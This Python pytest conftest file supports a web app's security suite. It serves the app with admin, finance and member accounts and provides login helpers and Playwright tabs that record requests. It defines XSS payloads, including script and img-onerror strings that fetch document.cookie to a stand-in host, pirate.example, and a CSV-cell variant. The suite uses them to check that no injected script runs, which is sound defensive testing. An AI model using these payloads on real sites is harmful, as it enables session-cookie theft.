"""Fixtures of the security suite (tests/security): the attacks of the pentest replayed over HTTP
(httpx) and in Chromium (Playwright), against the app served with its login.

One served app per session (`secure_site`: the hand-made budget warehouse with one account per
role), shared by the modules; the tests that lock logins or flood the server serve their own
(`served_site`). Nothing here is autouse: other modules of tests/security may bring their own.
"""

from __future__ import annotations

import re
import shutil
from contextlib import contextmanager
from dataclasses import dataclass

import httpx
import pytest

from tests.browser.helpers import PASSWORD, serving_with_accounts
from tests.dashboards.alambic_test_server import external_requests

# login, e-mail, role, display name (password: tests.browser.helpers.PASSWORD)
ACCOUNTS = [
    ("admin", "admin@exemple.re", "admin", "Adèle Admin"),
    ("finance", "finance@exemple.re", "finance", "Fanny Finance"),
    ("membre", "membre@exemple.re", "member", "Marc Membre"),
]

# What an injected script would do: set a flag, and call a host that is not this machine.
PWNED_JS = "window.__pwned=1;fetch('http://pirate.example/'+document.cookie)"
IMG_PAYLOAD = f'<img src=x onerror="{PWNED_JS}">'
SCRIPT_PAYLOAD = f"<script>{PWNED_JS}</script>"
# The same in one spreadsheet cell: no ";" "," or quote, which a CSV reader would split on.
CELL_PAYLOAD = "<img src=x onerror=\"fetch('http://pirate.example/x')&&0||(window.__pwned=1)\">"


@dataclass
class Site:
    base: str
    warehouse: object


@contextmanager
def served_site(sandbox_template, tmp_path_factory, accounts=ACCOUNTS):
    """A fresh copy of the sandbox organisation (built once per session by tests/browser's
    `sandbox_template`) with `accounts`, served with the login and its configuration: a Site."""
    from alambic.config import load_config
    from sandbox.demo_config import write_demo_config
    from warehouse.connection import Warehouse

    org, template = sandbox_template
    directory = tmp_path_factory.mktemp("securite")
    shutil.copyfile(template, directory / "alambic.duckdb")
    config = load_config(write_demo_config(org, directory, directory / "alambic.duckdb"))
    warehouse = Warehouse.from_config(config)
    with serving_with_accounts(warehouse, accounts, config=config) as base:
        yield Site(base, warehouse)


@pytest.fixture(scope="session")
def secure_site(sandbox_template, tmp_path_factory):
    with served_site(sandbox_template, tmp_path_factory) as site:
        yield site


def client(base: str, **kwargs) -> httpx.Client:
    return httpx.Client(base_url=base, timeout=60, follow_redirects=False, **kwargs)


def xsrf_of(http: httpx.Client, next_url: str = "/") -> str:
    page = http.get("/login", params={"next": next_url})
    assert page.status_code == 200, page.status_code
    return re.search(r'name="_xsrf" value="([^"]+)"', page.text).group(1)


def post_login(http: httpx.Client, login: str, password: str = PASSWORD, next_url: str = "/"):
    return http.post("/login", data={"login": login, "password": password, "next": next_url,
                                     "_xsrf": xsrf_of(http, next_url)})


def logged_in(base: str, login: str) -> httpx.Client:
    http = client(base)
    response = post_login(http, login)
    assert response.status_code == 302, (response.status_code, response.text[-500:])
    return http


@pytest.fixture(scope="session")
def chromium(browser):
    """Debian's Chromium, the one tests/browser drives (tests/conftest.py `browser`)."""
    return browser


@pytest.fixture
def tab(chromium):
    """A fresh browser tab that records every request (tab.requests), every console message
    (tab.console) and every page error (tab.errors)."""
    context = chromium.new_context(viewport={"width": 1400, "height": 1000}, locale="fr-FR")
    page = context.new_page()
    page.requests, page.console, page.errors = [], [], []
    page.on("request", lambda request: page.requests.append(request.url))
    page.on("websocket", lambda ws: page.requests.append(ws.url))
    page.on("console", lambda message: page.console.append(message.text))
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    yield page
    context.close()


def assert_no_script_ran(page) -> None:
    """The payload's flag is not set and no request left this machine."""
    assert page.evaluate("() => window.__pwned") is None, "the injected script ran"
    assert external_requests(page.requests) == [], external_requests(page.requests)
